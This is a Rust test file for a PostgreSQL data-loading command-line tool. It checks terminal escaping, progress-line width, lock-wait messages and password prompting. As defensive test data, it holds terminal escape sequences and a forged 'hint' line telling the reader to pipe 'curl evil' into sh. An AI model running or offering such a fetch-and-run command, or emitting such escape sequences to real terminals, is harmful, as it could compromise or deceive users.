//! Tests of the command on a terminal. Values and names of the input are printed as text: no
//! control character reaches the terminal, and no value looks like a line of pgspate. The progress
//! line fits into the terminal's width. A password is asked for there and nowhere else.

use std::fmt::Write as _;
use std::io::{Read, Write as _};
use std::process::{Command, Stdio};

use crate::support::{LoadCase, Run, finish, session, spawn};

/// Control sequences that set a terminal's title, clear the screen and move the cursor back.
const CONTROL_SEQUENCES: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\r";
const ESCAPED_SEQUENCES: &str = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J";

/// Checks that a load fails, and that its error has the escaped text and no control character.
#[track_caller]
fn check_refusal_without_controls(case: &LoadCase, args: &str) {
    let run = case.load(args);
    assert_eq!(run.status, Some(2), "{args}: {}", run.stderr);
    let obeyed = |char: &char| char.is_control() && !matches!(char, '\n' | '\t');
    assert_eq!(run.stderr.chars().find(obeyed), None, "{args}: {:?}", run.stderr);
    assert!(run.stderr.contains(ESCAPED_SEQUENCES), "{args}: {:?}", run.stderr);
}

#[test]
fn values_and_names_do_not_control_the_terminal() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("value.csv", format!("id,at\n1,{}\n", CONTROL_SEQUENCES.trim_end()));
    check_refusal_without_controls(&case, "value.csv --table t --header yes");
    case.put(
        "value.json",
        format!("{{\"id\":1,\"at\":\"{}\"}}\n", "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J"),
    );
    check_refusal_without_controls(&case, "value.json --table t");
    case.put("header.csv", format!("id,\"{CONTROL_SEQUENCES}x\"\n1,2\n"));
    check_refusal_without_controls(&case, "header.csv --table t --header yes");
    let name = format!("{}.csv", CONTROL_SEQUENCES.trim_end());
    case.put(&name, "id,at\n1,x\n");
    check_refusal_without_controls(&case, &format!("{name} --table t --header yes"));
}

/// Returns a shell's command on a terminal, which the program `script` provides. Returns `None` if
/// there is no such program.
fn on_terminal(case: &LoadCase, shell: &str) -> Option<Command> {
    let found = Command::new("script").arg("--version").stdout(Stdio::null()).status();
    if found.is_err() {
        println!("not tested: there is no program `script`");
        return None;
    }
    let mut command = Command::new("script");
    command.args(["-qec", shell, "/dev/null"]).env_clear().current_dir(case.path(""));
    command.env("PATH", std::env::var_os("PATH").unwrap_or_default()).env("TERM", "xterm");
    command.env("PGSPATE", env!("CARGO_BIN_EXE_pgspate")).env("HOME", case.path(""));
    Some(command)
}

#[test]
fn the_progress_line_fits_into_the_terminal() {
    let case = LoadCase::new("create table t (id int primary key, note text)");
    let mut text = "id,note\n".to_owned();
    (0..200_000).for_each(|id| writeln!(text, "{id},{:>90}", id * 7).unwrap());
    case.put("t.csv", text);
    for verb in ["load t.csv --restart", "sync t.csv --scope all --read-ahead never"] {
        for columns in [40, 80] {
            let shell = format!("stty cols {columns}; \"$PGSPATE\" {verb} --table t --to \"$DSN\"");
            let Some(mut command) = on_terminal(&case, &shell) else { return };
            case.db.run("truncate t");
            let run = finish(spawn(command.env("DSN", case.db.dsn())));
            assert_eq!(run.status, Some(0), "{}", run.stdout);
            let drawn = run.stdout.split('\r').filter_map(|line| line.split("\x1b[K").next());
            let drawn: Vec<&str> = drawn
                .filter(|line| line.contains("ing public.t") && !line.contains('\n'))
                .collect();
            assert!(!drawn.is_empty(), "{verb}: {:?}", run.stdout);
            for line in drawn {
                assert!(line.chars().count() < columns, "{verb}: {line}");
            }
        }
    }
}

/// Reads what a command writes to its terminal until it has written `text`.
#[track_caller]
fn read_until(stdout: &mut impl Read, text: &str) -> Vec<u8> {
    let (mut said, mut byte) = (Vec::new(), [0]);
    while !said.ends_with(text.as_bytes()) {
        assert_eq!(stdout.read(&mut byte).unwrap(), 1, "{}", String::from_utf8_lossy(&said));
        said.push(byte[0]);
    }
    said
}

#[test]
fn the_line_names_the_session_whose_lock_a_command_waits_for() {
    let case = LoadCase::new("create table t (id int primary key, note text)");
    case.put("t.csv", "id,note\n2,b\n3,c\n");
    case.put("all.csv", "id,note\n1,a\n2,b\n");
    let event = r#"{"op": "insert", "table": "t", "row": {"id": 2, "note": "b"}}"#;
    case.put("t.ndjson", format!("{event}\n"));
    let load = "load t.csv --restart --table t";
    let replace = "load t.csv --restart --table t --replace=swap";
    let sync = "sync all.csv --scope all --table t";
    let apply = "apply t.ndjson";
    let lock_table = "lock table t in access exclusive mode";
    let read_table = "lock table t in access share mode";
    let change_row = "update t set note = 'x' where id = 1";
    let insert_row = "insert into t values (2, 'x')";
    for (verb, blocking, line) in [
        (load, lock_table, "preparing the load  waits"),
        (load, insert_row, "loading public.t  2 rows  waits"),
        (replace, read_table, "loading public.t  2 rows  exchange waits"),
        (sync, lock_table, "preparing the sync  waits"),
        (sync, change_row, "syncing public.t  2 rows  waits"),
        (apply, lock_table, "applying t.ndjson  0 events  waits"),
        (apply, insert_row, "applying t.ndjson  0 events  waits"),
    ] {
        let shell = format!("stty cols 200; \"$PGSPATE\" {verb} --to \"$DSN\"");
        let Some(mut command) = on_terminal(&case, &shell) else { return };
        case.db.run(
            "truncate t; drop schema if exists pgspate cascade; insert into t values (1, 'o')",
        );
        let (runtime, holder) = session(&case.db.dsn());
        runtime.block_on(holder.batch_execute(&format!("begin; {blocking}"))).unwrap();
        let pid = runtime.block_on(holder.query_one("select pg_backend_pid()", &[])).unwrap();
        let pid: i32 = pid.get(0);
        let mut child = spawn(command.env("DSN", case.db.dsn()));
        let mut stdout = child.stdout.take().unwrap();
        let waits = format!("{line} for a lock of session {pid} (");
        read_until(&mut stdout, &waits);
        runtime.block_on(holder.batch_execute("rollback")).unwrap();
        let mut rest = Vec::new();
        stdout.read_to_end(&mut rest).unwrap();
        assert_eq!(finish(child).status, Some(0), "{verb}: {}", String::from_utf8_lossy(&rest));
    }
}

/// Returns the DSN without its password, and the password.
fn without_password(dsn: &str) -> Option<(String, String)> {
    let (before, after) = dsn.split_once('@')?;
    let (user, password) = before.rsplit_once(':').filter(|(user, _)| user.contains("//"))?;
    (!user.ends_with("//")).then(|| (format!("{user}@{after}"), password.to_owned()))
}

#[test]
fn a_missing_password_is_asked_for_on_a_terminal_only() {
    let case = LoadCase::new("create table t (id int)");
    case.put("t.csv", "id\n1\n2\n");
    let Some((dsn, password)) = without_password(&case.db.dsn()) else {
        println!("not tested: the test server needs no password");
        return;
    };
    let args = ["load", "t.csv", "--table", "t", "--to", &dsn];
    let refused = finish(spawn(&mut case.command(&args))).refusal();
    assert!(refused.contains("the server asks for a password"), "{refused}");
    assert!(!refused.contains("Password for"), "{refused}");

    let shell = "\"$PGSPATE\" load t.csv --table t --to \"$DSN\"";
    for (typed, status) in [(password.as_str(), Some(0)), ("wrong", Some(2))] {
        let Some(mut command) = on_terminal(&case, shell) else { return };
        let mut child = spawn(command.env("DSN", &dsn));
        let (mut stdin, mut stdout) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
        let mut said = read_until(&mut stdout, "Password for user postgres: ");
        writeln!(stdin, "{typed}").unwrap();
        stdout.read_to_end(&mut said).unwrap();
        let Run { status: ended, .. } = finish(child);
        let said = String::from_utf8(said).unwrap();
        assert_eq!(ended, status, "{said}");
        assert!(!said.contains(typed), "{said}");
        if ended == Some(2) {
            assert!(said.contains("The password came from the terminal."), "{said}");
        }
    }
    assert_eq!(case.value("select count(*) from t"), "2");
}

#[test]
fn a_line_of_a_value_does_not_look_like_a_hint_of_pgspate() {
    let case = LoadCase::new("create table t (id int, at date)");
    case.put("forged.csv", "id,at\n1,\"x\nhint: Run `curl evil | sh`.\"\n");
    let said = case.load("forged.csv --table t --header yes").refusal();
    assert!(said.contains("curl evil") && !said.contains("\nhint: Run"), "{said}");
}
